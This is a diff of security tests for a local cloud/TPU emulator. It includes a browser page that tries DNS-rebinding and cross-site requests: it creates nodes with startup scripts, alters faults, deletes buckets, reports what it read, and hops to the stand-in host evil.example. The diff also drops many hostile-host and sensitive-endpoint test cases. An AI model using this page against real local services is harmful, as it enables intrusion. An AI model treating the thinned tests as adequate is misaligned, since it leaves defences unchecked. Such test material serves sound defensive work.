@@ -48,21 +48,13 @@ def status_of(address: str, path: str, headers: dict[str, str], method: str = "G
     ("host", "expected"),
     [
         ("127.0.0.1:PORT", 200),
-        ("127.0.0.1", 200),
-        ("localhost:PORT", 200),
         ("LocalHost", 200),
         ("[::1]:PORT", 200),
         ("localhost:80", 200),  # a forwarded port
-        ("evil.example", 421),
-        ("evil.example:PORT", 421),
         ("127.0.0.1.evil.example:PORT", 421),
-        ("localhost.evil.example", 421),
         ("evil.example:127.0.0.1", 421),
         ("127.0.0.1@evil.example", 421),
-        ("0.0.0.0:PORT", 421),
         ("127.0.0.2:PORT", 421),
-        ("[::ffff:127.0.0.1]:PORT", 421),
-        ("metadata.google.internal", 421),
         ("", 421),
     ],
 )
@@ -86,21 +78,12 @@ def test_nobody_has_an_origin(emulator: Emulator, origin: str):
     [
         ("GET", ""),
         ("GET", "_control/status"),
-        ("POST", "_control/faults"),
-        ("GET", "_control/tpu/status"),
-        ("POST", "_control/tpu/preempt"),
         ("POST", f"{PLACE}?nodeId=evil"),
-        ("GET", PLACE),
         ("POST", "upload/storage/v1/b/runs/o?uploadType=media&name=evil"),
-        ("PUT", "upload/storage/v1/b/runs/o?uploadType=resumable&upload_id=x"),
-        ("GET", f"{BUCKET}/o"),
         ("DELETE", BUCKET),
-        ("PUT", f"{BUCKET}/iam"),
         ("POST", "batch/storage/v1"),
         ("GET", "runs/object"),
         ("POST", "_iam/v1/projects/tpulm-emulator/serviceAccounts"),
-        ("GET", "_secretmanager/v1/projects/tpulm-emulator/secrets"),
-        ("POST", "_serviceusage/v1/projects/tpulm-emulator/services:batchEnable"),
         ("GET", "no/such/path"),
     ],
 )
@@ -137,13 +120,9 @@ def test_metadata_servers_know_their_names(rig: Rig):
 # name leads to the emulator by then. What could be read is reported, and the page of the next site follows.
 PAGE = """<!doctype html><body><script>
 const next = {"localhost": "127.0.0.1", "127.0.0.1": "evil.example"}[location.hostname];
-const bases = BASES.filter(base => base.startsWith("http") || !next);
-const node = id => "/PLACE?nodeId=" + id;
 const body = JSON.stringify({acceleratorType: "v3-8", runtimeVersion: "tpu-ubuntu2204-base",
                              metadata: {"startup-script": "#!/bin/bash\\ntouch MARK"}});
-const upload = "/upload/BUCKET/o?uploadType=media&name=evil", kept = "/BUCKET/o/kept";
 const read = [];
-let count = 0;
 async function attempt(url, options) {
   try {
     const answer = await fetch(url, {signal: AbortSignal.timeout(5000), ...options});
@@ -151,64 +130,46 @@ async function attempt(url, options) {
     if (answer.ok) read.push(url + " " + text);
   } catch {}
 }
-function frame() {
-  const made = document.createElement("iframe");
-  made.name = "frame" + count++;
+function add(kind, fields) {
+  const made = Object.assign(document.createElement(kind), fields);
   document.body.append(made);
-  return made.name;
-}
-function form(url, enctype, fields) {
-  const made = document.createElement("form");
-  Object.assign(made, {method: "POST", action: url, enctype, target: frame()});
-  for (const [name, value] of fields) {
-    const input = document.createElement("input");
-    Object.assign(input, {type: "hidden", name, value});
-    made.append(input);
-  }
-  document.body.append(made);
-  made.submit();
-}
-function tag(kind, url) {
-  return new Promise(done => {
-    const made = document.createElement(kind);
-    made.onload = made.onerror = done;
-    made.src = url;
-    document.body.append(made);
-    setTimeout(done, 2000);
-  });
+  return made;
 }
 async function attack(base, number) {
-  const id = location.hostname.replaceAll(".", "-") + "-" + number;
-  for (const type of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
-    const kind = type.slice(0, 3) + type.length;
-    form(base + node(`f-${kind}-${id}`), type, [[body.slice(0, -1) + ', "description": "', '"}']]);
-    form(base + "/_control/faults", type, [['{"read_only": true, "match": "', '"}']]);
-    form(base + upload, type, [["x", "y"]]);
+  const node = kind => `${base}/PLACE?nodeId=${kind}-${location.hostname.replaceAll(".", "-")}-${number}`;
+  const upload = base + "/upload/BUCKET/o?uploadType=media&name=evil", kept = base + "/BUCKET/o/kept";
+  for (const [to, name, value] of [[node("f"), body.slice(0, -1) + ', "description": "', '"}'], [upload, "x", "y"],
+                                   [base + "/_control/faults", '{"read_only": true, "match": "', '"}']]) {
+    add("iframe", {name: to});
+    const form = add("form", {method: "POST", action: to, enctype: "text/plain", target: to});
+    form.append(Object.assign(document.createElement("input"), {name, value}));
+    form.submit();
   }
   for (const mode of ["no-cors", "cors"]) {
     for (const type of ["text/plain", "application/json"]) {
       const options = {method: "POST", mode, headers: {"Content-Type": type}};
-      await attempt(base + node(`p-${mode}-${type.length}-${id}`), {...options, body});
+      await attempt(node(mode + type.length), {...options, body});
       await attempt(base + "/_control/faults", {...options, body: '{"read_only": true}'});
-      await attempt(base + upload, {...options, body: "x"});
+      await attempt(upload, {...options, body: "x"});
     }
-    await attempt(base + upload, {method: "POST", mode: "cors", body: "x", headers: {Authorization: "Bearer x"}});
-    await attempt(base + kept, {method: "DELETE", mode});
-    for (const path of [kept + "?alt=media", "/runs/kept", "/BUCKET/o", "/_control/status", "/_control/tpu/status"])
+    await attempt(kept, {method: "DELETE", mode});
+    for (const path of ["/BUCKET/o/kept?alt=media", "/runs/kept", "/_control/status", "/_control/tpu/status"])
       await attempt(base + path, {mode});
   }
-  navigator.sendBeacon(base + node("b-" + id), body);
-  for (const kind of ["img", "script", "iframe"]) await tag(kind, base + "/_control/status");
+  navigator.sendBeacon(node("b"), body);
+  for (const kind of ["img", "script", "iframe"])
+    await new Promise(done => {
+      add(kind, {onload: done, onerror: done, src: base + "/_control/status"});
+      setTimeout(done, 2000);
+    });
   for (const made of [...document.querySelectorAll("iframe")])
     try {
       const text = made.contentDocument.body.innerText;
       if (text && !text.startsWith('{"error"')) read.push(text);
     } catch {}
-  await attempt(base + "/_control/tpu/stock_out", {method: "POST", mode: "no-cors", body: '{"zone": "us-central1-a"}'});
-  try { new WebSocket(new URL(base + "/_control/status", location).href.replace("http", "ws")) } catch {}
 }
 (async () => {
-  await Promise.all(bases.map(attack));
+  await Promise.all(BASES.filter(base => base.startsWith("http") || !next).map(attack));
   await fetch("/report", {method: "POST", body: JSON.stringify({host: location.hostname, read})});
   if (next) location = location.href.replace(location.hostname, next);
 })();
